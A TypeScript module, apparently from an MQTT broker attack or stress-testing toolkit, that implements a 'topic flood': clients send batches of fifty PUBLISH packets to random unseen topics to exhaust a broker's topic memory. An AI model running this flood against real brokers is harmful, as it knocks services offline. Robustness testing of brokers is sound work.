import { encodePacket } from '@cauldron/protocol';
import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';
import { publish } from './packets.ts';

/** PUBLISH packets in one write. */
const TOGETHER = 50;

/** Publishes to topics that were never seen, so that whatever remembers topics remembers nothing else. An action is fifty. */
export function topicFlood(target: AttackTarget, options: AttackOptions = {}): Attack {
  const assault = new Assault(target, planOf({ rate: 0, clients: 2 }, options));
  const { random, plan } = assault;
  return assault.crew((client) => {
    const packets = Array.from({ length: TOGETHER }, () =>
      encodePacket(publish(`${plan.name}/${random.next()}/${random.next()}`), plan.version),
    );
    client.write(Buffer.concat(packets));
  });
}
